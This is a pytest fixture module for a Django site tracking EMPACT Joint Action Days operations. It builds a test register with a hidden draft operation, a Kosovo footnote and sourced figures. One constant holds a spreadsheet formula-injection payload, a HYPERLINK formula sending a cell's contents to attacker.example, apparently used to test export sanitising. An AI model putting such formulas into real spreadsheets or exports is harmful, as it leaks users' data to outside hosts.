"""Data builders for the public site's tests: a small register with one draft operation whose
every trace must stay invisible, Kosovo with its footnote, a metric with a breakdown that does not
add up (as in the sources), a figure reported by two sources with different precision, and a
cell that tries formula injection.

Import the fixture where it is used: `from tests.public_fixtures import world  # noqa: F401`.
"""

import datetime
import re
from decimal import Decimal
from html import unescape
from types import SimpleNamespace

import pytest

from operations.models import (
    Activity,
    Breakdown,
    CoordinationCentre,
    CrimeArea,
    Dimension,
    Metric,
    Operation,
    Participation,
    Qualifier,
    Result,
    Role,
    Series,
    Source,
    Unit,
)
from participants.models import Participant

KOSOVO_FOOTNOTE = (
    "This designation is without prejudice to positions on status, and is in line with UNSCR 1244/1999 "
    "and the ICJ Opinion on the Kosovo declaration of independence."
)
INJECTION = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
SECRET = "Secretland"  # appears only in the draft operation


def participant(name, kind, country="", **extra):
    from django.utils.text import slugify

    return Participant.objects.create(name=name, slug=slugify(name), kind=kind, country=country, **extra)


def operation(series, edition, *, status=Operation.Status.PUBLISHED, start=None, end=None, **extra):
    start = start or datetime.date(int(edition), 11, 18)
    return Operation.objects.create(
        series=series,
        edition=edition,
        name=f"EMPACT Joint Action Days {series.short_name} {edition}",
        short_name=f"{series.short_name} {edition}",
        slug=f"{series.slug}-{edition}",
        start_date=start,
        end_date=end or start + datetime.timedelta(days=4),
        status=status,
        **extra,
    )


def build_world():
    kinds = Participant.Kind
    series = Series.objects.create(name="EMPACT JAD South East Europe", short_name="JAD SEE", slug="jad-see")
    firearms = CrimeArea.objects.create(name="Firearms trafficking", slug="firearms-trafficking")
    smuggling = CrimeArea.objects.create(name="Migrant smuggling", slug="migrant-smuggling")
    drugs = CrimeArea.objects.create(name="Drug trafficking", slug="drug-trafficking")
    coordinator = Role.objects.create(name="Coordinator of operational activities", slug="coordinator", is_leading=True)
    host = Role.objects.create(name="Host of the coordination centre", slug="host")

    spain = participant("Spain", kinds.EU_MEMBER_STATE, "ES")
    austria = participant("Austria", kinds.EU_MEMBER_STATE, "AT")
    macedonia = participant("North Macedonia", kinds.NON_EU, "MK")
    bosnia = participant("Bosnia and Herzegovina", kinds.NON_EU, "BA")
    kosovo = participant("Kosovo", kinds.NON_EU, "XK", footnote=KOSOVO_FOOTNOTE)
    europol = participant("Europol", kinds.EU_AGENCY, short_name="Europol")
    seesac = participant("SEESAC", kinds.PARTNER, short_name="SEESAC")
    secretland = participant(SECRET, kinds.NON_EU, "LI")
    unused = participant("Nobodyland", kinds.NON_EU, "MC")  # named by nothing at all

    persons = Unit.objects.create(code="persons", name="persons", dimension=Dimension.COUNT, factor=1)
    items = Unit.objects.create(code="items", name="items", dimension=Dimension.COUNT, factor=1)
    kg = Unit.objects.create(code="kg", name="kilograms", symbol="kg", dimension=Dimension.MASS, factor=1)
    eur = Unit.objects.create(code="eur", name="EUR", symbol="EUR", dimension=Dimension.MONEY, currency="EUR")
    officers = Metric.objects.create(code="officers", name="Officers involved", unit=persons, position=1)
    arrests = Metric.objects.create(code="arrests", name="Arrests", unit=persons, position=2)
    by_crime_area = Breakdown.objects.create(total=arrests, along=Breakdown.Along.CRIME_AREA)
    arrests_smuggling = Metric.objects.create(
        code="arrests-smuggling",
        name="Migrant smuggling",
        parent=arrests,
        breakdown=by_crime_area,
        unit=persons,
        crime_area=smuggling,
    )
    arrests_firearms = Metric.objects.create(
        code="arrests-firearms",
        name="Firearms trafficking",
        parent=arrests,
        breakdown=by_crime_area,
        unit=persons,
        crime_area=firearms,
    )
    value = Metric.objects.create(code="value", name="Value", unit=eur, position=5)
    weapons = Metric.objects.create(code="weapons", name="Weapons seized", unit=items, position=3)
    cannabis = Metric.objects.create(code="cannabis", name="Cannabis seized", unit=kg, position=4)

    europol_release = Source.objects.create(
        title="Europol: JAD SEE 2024 results",
        kind=Source.Kind.PRESS_RELEASE,
        publisher=europol,
        published_on=datetime.date(2024, 11, 25),
        url="https://europol.example/jad-see-2024",
    )
    news = Source.objects.create(
        title="News agency: over 22 000 officers in JAD SEE",
        kind=Source.Kind.NEWS_REPORT,
        publisher_name="News agency",
        published_on=datetime.date(2024, 11, 26),
    )
    report_2023 = Source.objects.create(
        title="Europol: JAD SEE 2023 results",
        kind=Source.Kind.PRESS_RELEASE,
        publisher=europol,
        published_on=datetime.date(2023, 11, 20),
    )
    seesac_report = Source.objects.create(
        title="SEESAC annual report 2024", kind=Source.Kind.ANNUAL_REPORT, publisher=seesac, year=2024
    )
    secret_source = Source.objects.create(
        title="Secret leaked draft memo", kind=Source.Kind.OTHER, publisher_name="Nobody", year=2025
    )

    jad_2024 = operation(series, "2024", motto="Uniting Forces Against Organised Crime")
    jad_2024.crime_areas.set([firearms, smuggling])
    jad_2023 = operation(series, "2023", start=datetime.date(2023, 11, 13), end=datetime.date(2023, 11, 18))
    jad_2023.crime_areas.set([drugs])
    draft = operation(series, "2025", status=Operation.Status.DRAFT, motto="Secret motto")
    draft.crime_areas.set([firearms])

    CoordinationCentre.objects.create(operation=jad_2024, city="Sarajevo", host_country=bosnia)
    CoordinationCentre.objects.create(operation=jad_2023, city="Skopje", host_country=macedonia)
    CoordinationCentre.objects.create(operation=draft, city="Vaduz", host_country=secretland)

    def take_part(op, who, *roles, sources=()):
        participation = Participation.objects.create(operation=op, participant=who)
        participation.roles.set(roles)
        participation.sources.set(sources)
        return participation

    take_part(jad_2024, spain, coordinator, sources=[europol_release])
    take_part(jad_2024, bosnia, host, sources=[europol_release])
    take_part(jad_2024, kosovo, sources=[europol_release])
    take_part(jad_2024, europol, sources=[europol_release])
    take_part(jad_2023, austria, coordinator, sources=[report_2023])
    take_part(jad_2023, macedonia, host, sources=[report_2023])
    take_part(draft, secretland, coordinator, sources=[secret_source])
    take_part(draft, spain)

    def result(op, metric, value, source, qualifier=Qualifier.EXACT, country=None, quote=None, activity=None):
        return Result.objects.create(
            operation=op,
            activity=activity,
            metric=metric,
            value=None if value is None else Decimal(value),
            source=source,
            qualifier_id=qualifier,
            country=country,
            quote=quote or f"{value} {metric.name.lower()}",
        )

    officers_exact = result(jad_2024, officers, "22488", europol_release, quote="22 488 officers")
    officers_over = result(jad_2024, officers, "22000", news, Qualifier.OVER, quote="over 22,000 officers")
    arrests_total = result(jad_2024, arrests, "566", europol_release)
    result(jad_2024, arrests_smuggling, "300", europol_release)
    result(jad_2024, arrests_firearms, "262", europol_release)
    kosovo_weapons = result(jad_2024, weapons, "12", europol_release, country=kosovo, quote="12 weapons in Kosovo*")
    injected = result(jad_2024, cannabis, "1.5", europol_release, quote=INJECTION)
    result(jad_2023, officers, "20000", report_2023)
    draft_result = result(draft, arrests, "31337", secret_source, quote="Secret 31337 arrests")

    published = Activity.Status.PUBLISHED
    training = Activity.objects.create(
        kind_id="training",
        title="Firearms detection training",
        slug="firearms-detection-training",
        implementer=seesac,
        start_date=datetime.date(2024, 3, 10),
        end_date=datetime.date(2024, 3, 12),
        place="Belgrade",
        operation=jad_2024,
        source=seesac_report,
        status=published,
    )
    training.beneficiary_countries.set([kosovo, macedonia])
    training_value = result(None, value, "15000", seesac_report, quote="worth EUR 15 000", activity=training)
    product = Activity.objects.create(
        kind_id="knowledge_product",
        title="3D-Printed Firearms: State of Play",
        slug="3d-printed-firearms",
        implementer=seesac,
        start_date=datetime.date(2024, 6, 1),
        start_precision="month",
        source=seesac_report,
        status=published,
    )
    product.beneficiary_countries.set([bosnia])
    secret_activity = Activity.objects.create(
        kind_id="workshop",
        title="Secret workshop",
        slug="secret-workshop",
        implementer=secretland,
        start_date=datetime.date(2025, 2, 1),
        operation=draft,
        source=secret_source,
    )
    secret_value = result(None, value, "77777", secret_source, quote="Secret 77777 EUR", activity=secret_activity)

    return SimpleNamespace(**locals())


@pytest.fixture
def world(db):
    return build_world()


def add_operations(world, count):
    """`count` more published operations, each with a centre, a lead and a figure."""
    series = Series.objects.create(name="EMPACT JAD Danube", short_name="JAD Danube", slug="jad-danube")
    for index in range(count):
        op = operation(series, str(2000 + index))
        op.crime_areas.set([world.firearms, world.drugs])
        CoordinationCentre.objects.create(operation=op, city=f"City {index}", host_country=world.austria)
        Participation.objects.create(operation=op, participant=world.austria).roles.set([world.coordinator])
        Result.objects.create(operation=op, metric=world.arrests, value=index, source=world.report_2023, quote="x")


def add_results(world, count, operation=None):
    """`count` more figures for one operation, each with its own metric."""
    operation = operation or world.jad_2024
    for index in range(count):
        metric = Metric.objects.create(code=f"extra-{index}", name=f"Extra metric {index}", unit=world.persons)
        Result.objects.create(
            operation=operation,
            metric=metric,
            value=index,
            source=world.europol_release,
            country=world.kosovo if index % 2 else None,
            quote=f"{index} things",
        )


def add_participants(world, count):
    for index in range(count):
        who = participant(f"Agency {index:03}", Participant.Kind.PARTNER)
        Participation.objects.create(operation=world.jad_2024, participant=who)


def add_activities(world, count):
    for index in range(count):
        activity = Activity.objects.create(
            kind_id="workshop",
            title=f"Workshop {index:03}",
            slug=f"workshop-{index:03}",
            implementer=world.seesac,
            start_date=datetime.date(2024, 1, 1) + datetime.timedelta(days=index),
            source=world.seesac_report,
            status=Activity.Status.PUBLISHED,
        )
        activity.beneficiary_countries.set([world.kosovo, world.bosnia])
        activity.partners.set([world.europol])


def add_sources(world, count):
    for index in range(count):
        source = Source.objects.create(
            title=f"Press release {index:03}", kind=Source.Kind.PRESS_RELEASE, publisher=world.europol, year=2024
        )
        Result.objects.create(operation=world.jad_2023, metric=world.arrests, value=index, source=source, quote="x")


def shown(response):
    """The records of the table page a list view rendered (the results table reads values: each
    row's dictionary, read as attributes: `quote`, `pk`, `operation__slug`)."""
    return [
        SimpleNamespace(**row.record) if isinstance(row.record, dict) else row.record
        for row in response.context["table"].page.object_list
    ]


def table_rows(content):
    """The cells of each row of a page's table body, as text: tags dropped, entities read."""
    rows_markup = content[content.index("<tbody") : content.index("</tbody>")]
    return [
        [unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", rows_markup, re.S)
    ]


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(response):
    import csv
    import io

    return list(csv.reader(io.StringIO(body(response).decode("utf-8"))))


def read_xlsx(response):
    """The first sheet of an XLSX response, opened with openpyxl (not read-only: to see styles)."""
    import io

    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(body(response))).worksheets[0]
